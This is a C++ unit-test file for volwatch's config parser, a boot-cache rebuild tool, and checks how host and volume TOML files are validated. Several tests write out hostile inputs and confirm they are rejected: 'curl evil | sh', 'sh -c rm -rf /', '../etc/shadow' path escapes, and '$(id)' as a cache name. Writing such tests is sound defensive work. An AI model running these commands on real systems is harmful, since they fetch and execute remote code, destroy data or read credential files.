    fs::create_directories(dir() / "conf.d");
    auto host = load_host_config(HostConfigLocation{dir() / "conf.d", true});
    EXPECT_TRUE(fails_with(host, ExitCode::bad_host_config, (dir() / "conf.d").string() + ": not a regular file"));
}

TEST_F(ConfigTest, HostConfigThatIsAFifoDoesNotHang) {
    fs::path fifo = dir() / "fifo.toml";
    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
    pid_t pid = ::fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
        auto host = load_host_config(HostConfigLocation{fifo, true});
        bool refused = !host.ok() && host.problem().code == ExitCode::bad_host_config &&
                       host.problem().message == fifo.string() + ": not a regular file";
        ::_exit(refused ? 0 : 1);
    }
    int status = 0;
    pid_t done = 0;
    for (int i = 0; i < 500 && done == 0; ++i) {
        done = ::waitpid(pid, &status, WNOHANG);
        if (done == 0) ::usleep(10'000);
    }
    if (done == 0) {
        ::kill(pid, SIGKILL);
        ::waitpid(pid, &status, 0);
        FAIL() << "load_host_config blocked on a FIFO";
    }
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 0) << "a FIFO must be refused as not a regular file";
}

TEST_F(ConfigTest, LocateHostConfigOrder) {
    {
        ScopedEnv env("VOLWATCH_CONFIG", nullptr);
        auto where = locate_host_config(std::nullopt);
        EXPECT_EQ(where.path, default_host_config_path);
        EXPECT_FALSE(where.explicit_choice);
        auto flag = locate_host_config(fs::path("/x/flag.toml"));
        EXPECT_EQ(flag.path, "/x/flag.toml");
        EXPECT_TRUE(flag.explicit_choice);
    }
    {
        ScopedEnv env("VOLWATCH_CONFIG", "/x/env.toml");
        auto where = locate_host_config(std::nullopt);
        EXPECT_EQ(where.path, "/x/env.toml");
        EXPECT_TRUE(where.explicit_choice);
        EXPECT_EQ(locate_host_config(fs::path("/x/flag.toml")).path, "/x/flag.toml");
    }
    {
        ScopedEnv env("VOLWATCH_CONFIG", "");
        auto where = locate_host_config(std::nullopt);
        EXPECT_EQ(where.path, default_host_config_path);
        EXPECT_FALSE(where.explicit_choice);
    }
}

TEST_F(ConfigTest, HostOverrideOrder) {
    write_file(dir() / "flag.toml", "lock_dir = \"/run/from-flag\"");
    write_file(dir() / "env.toml", "lock_dir = \"/run/from-env\"");
    ScopedEnv env("VOLWATCH_CONFIG", (dir() / "env.toml").c_str());

    auto from_env = load_host_config(HostOverrides{});
    ASSERT_TRUE(from_env.ok()) << from_env.problem().message;
    EXPECT_EQ(from_env->lock_dir, "/run/from-env");
    EXPECT_EQ(from_env->source, dir() / "env.toml");

    HostOverrides flag;
    flag.config = dir() / "flag.toml";
    auto from_flag = load_host_config(flag);
    ASSERT_TRUE(from_flag.ok()) << from_flag.problem().message;
    EXPECT_EQ(from_flag->lock_dir, "/run/from-flag");
    EXPECT_EQ(from_flag->source, dir() / "flag.toml");
}

TEST_F(ConfigTest, HostLockDirOverride) {
    write_file(dir() / "host.toml", "lock_dir = \"/run/from-file\"\nsettle = \"7s\"");
    HostOverrides overrides;
    overrides.config = dir() / "host.toml";
    overrides.lock_dir = dir() / "locks";
    auto host = load_host_config(overrides);
    ASSERT_TRUE(host.ok()) << host.problem().message;
    EXPECT_EQ(host->lock_dir, dir() / "locks");
    EXPECT_EQ(host->settle, 7s) << "the rest of the file still applies";

    // A relative --lock-dir is taken relative to the working directory.
    overrides.lock_dir = fs::path("rel/./locks");
    auto relative = load_host_config(overrides);
    ASSERT_TRUE(relative.ok()) << relative.problem().message;
    EXPECT_EQ(relative->lock_dir, (fs::current_path() / "rel/locks"));
    EXPECT_TRUE(relative->lock_dir.is_absolute());

    overrides.lock_dir = fs::path();
    EXPECT_TRUE(fails_with(load_host_config(overrides), ExitCode::usage, "--lock-dir: empty path"));
}

TEST_F(ConfigTest, HostLockDirOverrideNotAppliedOnError) {
    HostOverrides overrides;
    overrides.config = dir() / "missing.toml";
    overrides.lock_dir = dir() / "locks";
    EXPECT_TRUE(fails_containing(load_host_config(overrides), ExitCode::bad_host_config, {"missing.toml"}));
}

// -------------------------------------------------------------- volume config

TEST_F(ConfigTest, VolumeValid) {
    auto config = parse_volume(valid_volume_config);
    ASSERT_TRUE(config.ok()) << config.problem().message;
    EXPECT_EQ(config->source, "vol.toml");
    EXPECT_EQ(config->version, 1);
    ASSERT_EQ(config->caches.size(), 2u);
    const CacheSpec& initramfs = config->caches[0];
    EXPECT_EQ(initramfs.name, "initramfs");
    EXPECT_EQ(initramfs.sources, (std::vector<std::string>{"usr/lib/modules", "etc/initramfs-tools"}));
    EXPECT_EQ(initramfs.product, "boot/initrd.img");
    EXPECT_EQ(initramfs.depth, Depth::deep);
    EXPECT_EQ(initramfs.rebuild, "initramfs");
    EXPECT_EQ(initramfs.line, 3);
    const CacheSpec& ld = config->caches[1];
    EXPECT_EQ(ld.name, "ld.so.cache");
    EXPECT_EQ(ld.depth, Depth::shallow) << "default depth";
    EXPECT_EQ(ld.rebuild, "ldconfig");
    EXPECT_EQ(ld.line, 10);
    EXPECT_EQ(config->helper_files,
              (std::vector<std::string>{"boot/vmlinuz", "boot/initrd.img", "boot/grub/grub.cfg"}));
}

TEST_F(ConfigTest, VolumeHelperDepends) {
    std::string base = std::string(valid_volume_config);
    auto config = parse_volume(base + "depends = { \"boot/./vmlinuz\" = [\"initramfs\", \"ld.so.cache\"] }\n");
    ASSERT_TRUE(config.ok()) << config.problem().message;
    EXPECT_EQ(config->helper_depends,
              (std::map<std::string, std::vector<std::string>>{{"boot/vmlinuz", {"initramfs", "ld.so.cache"}}}));
    auto table = parse_volume(base + "\n[helpers.depends]\n\"boot/grub/grub.cfg\" = [\"initramfs\"]\n");
    ASSERT_TRUE(table.ok()) << table.problem().message;
    EXPECT_EQ(table->helper_depends.at("boot/grub/grub.cfg"), std::vector<std::string>{"initramfs"});
    EXPECT_TRUE(parse_volume(valid_volume_config)->helper_depends.empty());
    // depends is line 18: valid_volume_config ends with the [helpers] files line.
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/other\" = [\"initramfs\"] }\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends.\"boot/other\": \"boot/other\" is not one of the helper files ([helpers] files)"));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/vmlinuz\" = [\"initrd\"] }\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends.\"boot/vmlinuz\"[0]: \"initrd\" is not a cache of this volume ([[cache]] name)"));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/vmlinuz\" = [] }\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends.\"boot/vmlinuz\": must not be empty"));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/vmlinuz\" = \"initramfs\" }\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends.\"boot/vmlinuz\": expected an array of cache names, found a string"));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/vmlinuz\" = [\"initramfs\", \"initramfs\"] }\n"),
                           ExitCode::bad_volume_config, "vol.toml:18: helpers.depends.\"boot/vmlinuz\"[1]: duplicate cache \"initramfs\""));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = { \"boot/vmlinuz\" = [1] }\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends.\"boot/vmlinuz\"[0]: expected a string, found an integer"));
    EXPECT_TRUE(fails_containing(parse_volume(base + "depends = { \"../etc/shadow\" = [\"initramfs\"] }\n"), ExitCode::bad_volume_config,
                                 {"vol.toml:18: helpers.depends.\"../etc/shadow\": \"../etc/shadow\": "}));
    EXPECT_TRUE(fails_containing(parse_volume(base + "depends = { \"boot/vmlinuz\" = [\"initramfs\"], \"boot//vmlinuz\" = [\"initramfs\"] }\n"),
                                 ExitCode::bad_volume_config, {"vol.toml:18: helpers.depends.", "is listed twice"}));
    EXPECT_TRUE(fails_with(parse_volume(base + "depends = [\"initramfs\"]\n"), ExitCode::bad_volume_config,
                           "vol.toml:18: helpers.depends: expected a table, found an array"));
}

TEST_F(ConfigTest, VolumeOnlyCachesOrOnlyHelpers) {
    auto caches = parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\nrebuild = \"ldconfig\"");
    ASSERT_TRUE(caches.ok()) << caches.problem().message;
    EXPECT_TRUE(caches->helper_files.empty());
    auto helpers = parse_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\"]");
    ASSERT_TRUE(helpers.ok()) << helpers.problem().message;
    EXPECT_TRUE(helpers->caches.empty());
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n"), ExitCode::bad_volume_config,
                           "vol.toml: cache: the file defines no [[cache]] and no [helpers] files"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = []"), ExitCode::bad_volume_config,
                           "vol.toml: cache: the file defines no [[cache]] and no [helpers] files"));
}

TEST_F(ConfigTest, VolumeVersion) {
    const char* rest = "\n[helpers]\nfiles = [\"boot/vmlinuz\"]";
    EXPECT_TRUE(fails_with(parse_volume(rest), ExitCode::bad_volume_config,
                           "vol.toml: version: missing required key (write version = 1)"));
    EXPECT_TRUE(fails_with(parse_volume(""), ExitCode::bad_volume_config,
                           "vol.toml: version: missing required key (write version = 1)"));
    EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = 2{}", rest)), ExitCode::bad_volume_config,
                           "vol.toml:1: version: unsupported version 2 (this volwatch reads version 1)"));
    EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = 0{}", rest)), ExitCode::bad_volume_config,
                           "vol.toml:1: version: unsupported version 0 (this volwatch reads version 1)"));
    EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = \"1\"{}", rest)), ExitCode::bad_volume_config,
                           "vol.toml:1: version: expected an integer, found a string"));
    EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = 1.0{}", rest)), ExitCode::bad_volume_config,
                           "vol.toml:1: version: expected an integer, found a number"));
    EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = [1]{}", rest)), ExitCode::bad_volume_config,
                           "vol.toml:1: version: expected an integer, found an array"));
}

TEST_F(ConfigTest, VolumeUnknownKeys) {
    EXPECT_TRUE(fails_with(parse_volume("version = 1\nowner = \"me\"\n[helpers]\nfiles = [\"a\"]"),
                           ExitCode::bad_volume_config, "vol.toml:2: owner: unknown key"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = \"ldconfig\"\nsettle = \"1s\""),
                           ExitCode::bad_volume_config, "vol.toml:7: cache[0].settle: unknown key"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"a\"]\nmode = \"copy\""),
                           ExitCode::bad_volume_config, "vol.toml:4: helpers.mode: unknown key"));
}

TEST_F(ConfigTest, VolumeCannotNameACommand) {
    // A hostile volume tries every way to make root run a command of its choosing.
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = \"ldconfig\"\nargv = [\"sh\", \"-c\", \"curl evil | sh\"]"),
                           ExitCode::bad_volume_config, "vol.toml:7: cache[0].argv: unknown key"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = \"sh -c 'rm -rf /'\""),
                           ExitCode::bad_volume_config,
                           "vol.toml:6: cache[0].rebuild: rebuilder \"sh -c 'rm -rf /'\" is not defined in the host "
                           "config (/etc/volwatch/volwatch.toml)"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[rebuilders]\nevil = { argv = [\"sh\"] }\n[helpers]\nfiles = [\"a\"]"),
                           ExitCode::bad_volume_config, "vol.toml:2: rebuilders: unknown key"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = { argv = [\"sh\"] }"),
                           ExitCode::bad_volume_config, "vol.toml:6: cache[0].rebuild: expected a string, found a table"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = [\"sh\", \"-c\", \"x\"]"),
                           ExitCode::bad_volume_config, "vol.toml:6: cache[0].rebuild: expected a string, found an array"));
}

TEST_F(ConfigTest, VolumeCannotNameAHelperTarget) {
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\"]\ntargets = [\"/etc\"]"),
                           ExitCode::bad_volume_config, "vol.toml:4: helpers.targets: unknown key"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[helpers]]\nvolume = \"/\"\ntargets = [\"/etc\"]"),
                           ExitCode::bad_volume_config, "vol.toml:2: helpers: expected a table, found an array"));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = \"ldconfig\"\ntargets = [\"/boot/efi\"]"),
                           ExitCode::bad_volume_config, "vol.toml:7: cache[0].targets: unknown key"));
}

TEST_F(ConfigTest, VolumeRebuilderNotDefinedByHost) {
    auto config = parse_volume("version = 1\n\n[[cache]]\nname = \"initrd\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                               "rebuild = \"mkinitcpio\"");
    EXPECT_TRUE(fails_with(config, ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].rebuild: rebuilder \"mkinitcpio\" is not defined in the host config "
                           "(/etc/volwatch/volwatch.toml)"));
    EXPECT_EQ(to_int(config.problem().code), 65);

    // With built-in defaults (no host file) the message does not invent a file.
    auto no_file = parse_volume_config("version = 1\n[[cache]]\nname = \"x\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                       "rebuild = \"initramfs\"",
                                       "vol.toml", HostConfig{});
    EXPECT_TRUE(fails_with(no_file, ExitCode::bad_volume_config,
                           "vol.toml:6: cache[0].rebuild: rebuilder \"initramfs\" is not defined in the host config"));
}

TEST_F(ConfigTest, VolumeDuplicateCacheNames) {
    auto config = parse_volume("version = 1\n[[cache]]\nname = \"x\"\nsources = [\"a\"]\nproduct = \"p\"\n"
                               "rebuild = \"ldconfig\"\n[[cache]]\nsources = [\"b\"]\nname = \"x\"\nproduct = \"q\"\n"
                               "rebuild = \"ldconfig\"");
    EXPECT_TRUE(fails_with(config, ExitCode::bad_volume_config, "vol.toml:9: cache[1].name: duplicate cache name \"x\""));
}

TEST_F(ConfigTest, VolumeCacheNames) {
    auto with_name = [](const std::string& name_toml) {
        return parse_volume(fmt::format("version = 1\n[[cache]]\nname = {}\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "rebuild = \"ldconfig\"",
                                        name_toml));
    };
    for (const char* good : {"\"a\"", "\"ld.so.cache\"", "\"A-Z_0.9\"", "\"9lives\"", "\"g++-12\"", "\"x-\""}) {
        auto config = with_name(good);
        EXPECT_TRUE(config.ok()) << good << ": " << config.problem().message;
    }
    EXPECT_TRUE(with_name(fmt::format("\"{}\"", std::string(64, 'n'))).ok());
    std::vector<std::string> bad = {"",   "a b", "../x", "a/b", "..", ".", "x\\u00e9", "tab\\t",
                                    std::string(65, 'n'), "semi;colon", "$(id)", "...", "a=b", "a,b"};
    for (const auto& name : bad) {
        auto config = with_name(fmt::format("\"{}\"", name));
        EXPECT_TRUE(fails_containing(config, ExitCode::bad_volume_config,
                                     {"vol.toml:3: cache[0].name: ", "a cache name must start with a letter or digit"}))
            << name;
    }
    // {cache} hands the name to a host rebuilder as one argument: a leading
    // '-' would make it an option chosen by the volume.
    for (const char* option_like : {"--force", "-rf", "-", "--", ".hidden", "_x", "+x"}) {
        EXPECT_TRUE(fails_with(with_name(fmt::format("\"{}\"", option_like)), ExitCode::bad_volume_config,
                               fmt::format("vol.toml:3: cache[0].name: \"{}\": a cache name must start with a letter or "
                                           "digit and may use only letters, digits, '.', '_', '+' and '-' (1 to 64)",
                                           option_like)))
            << option_like;
    }
    EXPECT_TRUE(fails_with(with_name("42"), ExitCode::bad_volume_config,
                           "vol.toml:3: cache[0].name: expected a string, found an integer"));
}

TEST_F(ConfigTest, VolumeMissingCacheKeys) {
    const char* lines[] = {"name = \"x\"", "sources = [\"s\"]", "product = \"p\"", "rebuild = \"ldconfig\""};
    const char* keys[] = {"name", "sources", "product", "rebuild"};
    for (int skip = 0; skip < 4; ++skip) {
        std::string text = "version = 1\n\n[[cache]]\n";
        for (int i = 0; i < 4; ++i)
            if (i != skip) text += std::string(lines[i]) + "\n";
        EXPECT_TRUE(fails_with(parse_volume(text), ExitCode::bad_volume_config,
                               fmt::format("vol.toml:3: cache[0].{}: missing required key", keys[skip])))
            << keys[skip];
    }
}

TEST_F(ConfigTest, VolumeWrongTypes) {
    const WrongType cases[] = {
        {"cache = 1", "cache: expected [[cache]] tables"},
        {"cache = [\"x\"]", "cache: expected [[cache]] tables"},
        {"helpers = 1", "helpers: expected a table, found an integer"},
        {"helpers = { files = \"boot/vmlinuz\" }", "helpers.files: expected an array of strings, found a string"},
        {"helpers = { files = [1] }", "helpers.files[0]: expected a string, found an integer"},
        {"cache = [{ name = \"a\", sources = \"s\", product = \"p\", rebuild = \"ldconfig\" }]",
         "cache[0].sources: expected an array of strings, found a string"},
        {"cache = [{ name = \"a\", sources = [\"s\", 2], product = \"p\", rebuild = \"ldconfig\" }]",
         "cache[0].sources[1]: expected a string, found an integer"},
        {"cache = [{ name = \"a\", sources = [\"s\"], product = 1, rebuild = \"ldconfig\" }]",
         "cache[0].product: expected a string, found an integer"},
        {"cache = [{ name = \"a\", sources = [\"s\"], product = \"p\", depth = true, rebuild = \"ldconfig\" }]",
         "cache[0].depth: expected a string, found a boolean"},
        {"cache = [{ name = \"a\", sources = [\"s\"], product = \"p\", rebuild = 3 }]",
         "cache[0].rebuild: expected a string, found an integer"},
    };
    for (const auto& c : cases) {
        EXPECT_TRUE(fails_with(parse_volume(fmt::format("version = 1\n{}\n", c.text)), ExitCode::bad_volume_config,
                               fmt::format("vol.toml:2: {}", c.message)))
            << c.text;
    }
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n\n[cache]\nname = \"a\""), ExitCode::bad_volume_config,
                           "vol.toml:3: cache: expected [[cache]] tables"));
}

TEST_F(ConfigTest, VolumeEmptySources) {
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[[cache]]\nname = \"a\"\nsources = []\nproduct = \"p\"\n"
                                        "rebuild = \"ldconfig\""),
                           ExitCode::bad_volume_config, "vol.toml:4: cache[0].sources: must not be empty"));
}

TEST_F(ConfigTest, VolumeDepthValues) {
    auto with_depth = [](const char* depth) {
        return parse_volume(fmt::format("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"s\"]\nproduct = \"p\"\n"
                                        "depth = \"{}\"\nrebuild = \"ldconfig\"",
                                        depth));
    };
    EXPECT_EQ(with_depth("shallow")->caches[0].depth, Depth::shallow);
    EXPECT_EQ(with_depth("deep")->caches[0].depth, Depth::deep);
    for (const char* bad : {"Deep", "medium", "", "deep "}) {
        EXPECT_TRUE(fails_with(with_depth(bad), ExitCode::bad_volume_config,
                               fmt::format("vol.toml:6: cache[0].depth: \"{}\" is not one of shallow, deep", bad)))
            << bad;
    }
}

TEST_F(ConfigTest, VolumeOutputs) {
    auto with_outputs = [](const char* outputs) {
        return parse_volume(fmt::format("version = 1\n[[cache]]\nname = \"depmod\"\nsources = [\"usr/lib/modules/6.1\", \"etc/depmod.d\"]\n"
                                        "product = \"usr/lib/modules/6.1/modules.dep\"\nrebuild = \"ldconfig\"\noutputs = {}",
                                        outputs));
    };
    auto config = with_outputs("[\"usr/lib/modules/*/modules.alias\", \"usr/lib/modules/6.1/modules.*.bin\"]");
    ASSERT_TRUE(config) << config.problem().message;
    EXPECT_EQ(config->caches[0].outputs,
              (std::vector<std::string>{"usr/lib/modules/*/modules.alias", "usr/lib/modules/6.1/modules.*.bin"}));
    EXPECT_TRUE(with_outputs("[]")->caches[0].outputs.empty());
    EXPECT_TRUE(fails_with(with_outputs("\"usr/lib/modules/6.1/modules.dep\""), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs: expected an array of strings, found a string"));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules/6.1/x\", 3]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[1]: expected a string, found an integer"));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules/../../../etc/shadow\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"usr/lib/modules/../../../etc/shadow\": \"..\" would leave the volume"));
    EXPECT_TRUE(fails_with(with_outputs("[\"/usr/lib/modules/6.1/modules.dep\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"/usr/lib/modules/6.1/modules.dep\": absolute path (paths are relative to the volume root)"));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules/6.1/[ab\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"usr/lib/modules/6.1/[ab\": \"[\" without a closing \"]\""));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/./modules/6.1/x\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"usr/lib/./modules/6.1/x\": a \".\" component (write the path without it)"));
    // Outputs live beneath the cache's own sources, never beside them.
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules/6.1/x\",\n  \"etc/ld.so.cache\"]"), ExitCode::bad_volume_config,
                           "vol.toml:8: cache[0].outputs[1]: \"etc/ld.so.cache\" is not beneath any of the cache's sources"));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"usr/lib/modules\" is not beneath any of the cache's sources"));
    EXPECT_TRUE(fails_with(with_outputs("[\"usr/lib/modules/*\"]"), ExitCode::bad_volume_config,
                           "vol.toml:7: cache[0].outputs[0]: \"usr/lib/modules/*\" names the source \"usr/lib/modules/6.1\" itself"));
}

TEST_F(ConfigTest, VolumeDuplicateHelperFiles) {
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\", \"boot/initrd.img\",\n"
                                        "  \"boot/vmlinuz\"]"),
                           ExitCode::bad_volume_config, "vol.toml:4: helpers.files[2]: duplicate file \"boot/vmlinuz\""));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\", \"boot/./vmlinuz\"]"),
                           ExitCode::bad_volume_config, "vol.toml:3: helpers.files[1]: duplicate file \"boot/./vmlinuz\""));
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot//vmlinuz\", \"boot/vmlinuz\"]"),
                           ExitCode::bad_volume_config, "vol.toml:3: helpers.files[1]: duplicate file \"boot/vmlinuz\""));
}

TEST_F(ConfigTest, VolumeHelperFilesMayNotTakeTheSlotsOwnNames) {
    // The slot's seal would overwrite such a copy: the helper would stay
    // stale forever while every run reported success.
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\",\n  \"MANIFEST.json\"]"),
                           ExitCode::bad_volume_config,
                           "vol.toml:4: helpers.files[1]: \"MANIFEST.json\": the name is reserved for the helper slot's own "
                           "MANIFEST.json (in any letter case)"));
    for (const char* name : {"./MANIFEST.json", "manifest.json", "Manifest.JSON/x", ".MANIFEST.json.tmp.42"})
        EXPECT_TRUE(fails_containing(parse_volume(fmt::format("version = 1\n[helpers]\nfiles = [\"{}\"]", name)),
                                     ExitCode::bad_volume_config, {"vol.toml:3: helpers.files[0]: ", "is reserved"}))
            << name;
    for (const char* name : {"boot/MANIFEST.json", "MANIFEST.json.bak", "MANIFEST"}) {
        auto config = parse_volume(fmt::format("version = 1\n[helpers]\nfiles = [\"{}\"]", name));
        EXPECT_TRUE(config) << name << ": " << (config ? "" : config.problem().message);
    }
}

TEST_F(ConfigTest, HostHelpersRequireMount) {
    auto host = parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"/boot/efi\"]\nrequire_mount = true\n"
                           "[[helpers]]\nvolume = \"/srv\"\ntargets = [\"/srv/esp\"]");
    ASSERT_TRUE(host) << host.problem().message;
    EXPECT_TRUE(host->helpers[0].require_mount);
    EXPECT_FALSE(host->helpers[1].require_mount);
    EXPECT_TRUE(fails_with(parse_host("[[helpers]]\nvolume = \"/\"\ntargets = [\"/boot/efi\"]\nrequire_mount = \"yes\""),
                           ExitCode::bad_host_config,
                           "host.toml:4: helpers[0].require_mount: expected true or false, found a string"));
}

TEST_F(ConfigTest, VolumePathsMustStayLexicallyInside) {
    struct Escape {
        const char* path;
        const char* problem;
    };
    const Escape escapes[] = {
        {"..", "\"..\" would leave the volume"},
        {"../etc/shadow", "\"..\" would leave the volume"},
        {"a/../../b", "\"..\" would leave the volume"},
        {"a/..", "\"..\" would leave the volume"},
        {"/etc/shadow", "absolute path (paths are relative to the volume root)"},
        {"/", "absolute path (paths are relative to the volume root)"},
        {"", "empty path"},
    };
    for (const auto& e : escapes) {
        auto source = parse_volume(fmt::format("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"ok\", \"{}\"]\n"
                                               "product = \"p\"\nrebuild = \"ldconfig\"",
                                               e.path));
        EXPECT_TRUE(fails_with(source, ExitCode::bad_volume_config,
                               fmt::format("vol.toml:4: cache[0].sources[1]: \"{}\": {}", e.path, e.problem)))
            << e.path;
        auto product = parse_volume(fmt::format("version = 1\n[[cache]]\nname = \"a\"\nsources = [\"ok\"]\n"
                                                "product = \"{}\"\nrebuild = \"ldconfig\"",
                                                e.path));
        EXPECT_TRUE(fails_with(product, ExitCode::bad_volume_config,
                               fmt::format("vol.toml:5: cache[0].product: \"{}\": {}", e.path, e.problem)))
            << e.path;
        auto helper = parse_volume(fmt::format("version = 1\n[helpers]\nfiles = [\"{}\"]", e.path));
        EXPECT_TRUE(fails_with(helper, ExitCode::bad_volume_config,
                               fmt::format("vol.toml:3: helpers.files[0]: \"{}\": {}", e.path, e.problem)))
            << e.path;
    }
    EXPECT_TRUE(fails_with(parse_volume("version = 1\n[helpers]\nfiles = [\"boot/\\u0000x\"]"), ExitCode::bad_volume_config,
                           "vol.toml:3: helpers.files[0]: contains a NUL byte"));
}

TEST_F(ConfigTest, VolumeInvalidTomlAndGarbage) {
    auto bad = parse_volume("version = 1\n[[cache]\n");
    ASSERT_FALSE(bad.ok());
    EXPECT_EQ(bad.problem().code, ExitCode::bad_volume_config);
    EXPECT_EQ(bad.problem().message.rfind("vol.toml:2:", 0), 0u) << bad.problem().message;
    EXPECT_NE(bad.problem().message.find("invalid TOML"), std::string::npos);

    std::string garbage;
    for (int i = 0; i < 2048; ++i) garbage += static_cast<char>((i * 131 + 7) % 256);
    EXPECT_TRUE(fails_containing(parse_volume(garbage), ExitCode::bad_volume_config, {"vol.toml:", "invalid TOML"}));
}

TEST_F(ConfigTest, VolumeHugeTextIsRefused) {
    std::string big = "version = 1\n" + std::string(10 * 1024 * 1024, '\n');
    EXPECT_TRUE(fails_with(parse_volume(big), ExitCode::bad_volume_config,
                           fmt::format("vol.toml: file too large ({} bytes; the limit is 1048576)", big.size())));
}

// ---------------------------------------------------- load_volume_config on disk

TEST_F(ConfigTest, LoadVolumeValid) {
    fs::path root = make_volume(valid_volume_config);
    fs::create_directories(root / "usr/lib/modules");
    UniqueFd fd = open_root(root);
    ASSERT_TRUE(fd);
    auto config = load_volume_config(fd.get(), "/mnt/img", trusted_host());
    ASSERT_TRUE(config.ok()) << config.problem().message;
    EXPECT_EQ(config->source, "/mnt/img/etc/volwatch/bootcaches.toml");
    EXPECT_EQ(config->caches.size(), 2u);
    EXPECT_EQ(config->helper_files.size(), 3u);
}

TEST_F(ConfigTest, LoadVolumeMissingConfigIsUnknownVolume) {
    fs::path root = make_volume("");
    UniqueFd fd = open_root(root);
    auto config = load_volume_config(fd.get(), "/mnt/img", trusted_host());
    EXPECT_TRUE(fails_with(config, ExitCode::unknown_volume, "/mnt/img/etc/volwatch/bootcaches.toml: no volume config"));
    EXPECT_EQ(to_int(config.problem().code), 66);

    fs::create_directories(root / "etc/volwatch");
    EXPECT_TRUE(fails_with(load_volume_config(fd.get(), "/mnt/img", trusted_host()), ExitCode::unknown_volume,
                           "/mnt/img/etc/volwatch/bootcaches.toml: no volume config"));
}

TEST_F(ConfigTest, LoadVolumeErrorsNameTheFileAndLine) {
    fs::path root = make_volume("version = 1\n[helpers]\nfiles = [\"../x\"]");
    UniqueFd fd = open_root(root);
    EXPECT_TRUE(fails_with(load_volume_config(fd.get(), root, trusted_host()), ExitCode::bad_volume_config,
                           (root / volume_config_relpath).string() +
                               ":3: helpers.files[0]: \"../x\": \"..\" would leave the volume"));
}

TEST_F(ConfigTest, LoadVolumeTenMegabyteFileIsRefused) {
    fs::path root = make_volume("version = 1\n");
    {
        std::ofstream out(root / volume_config_relpath, std::ios::app);
        std::string line = "# " + std::string(1021, 'x') + "\n";
        for (int i = 0; i < 10 * 1024; ++i) out << line;
    }
    UniqueFd fd = open_root(root);
    auto size = fs::file_size(root / volume_config_relpath);
    EXPECT_GE(size, 10u * 1024 * 1024);
    EXPECT_TRUE(fails_with(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                           fmt::format("/v/etc/volwatch/bootcaches.toml: file too large ({} bytes; the limit is 1048576)",
                                       size)));
}

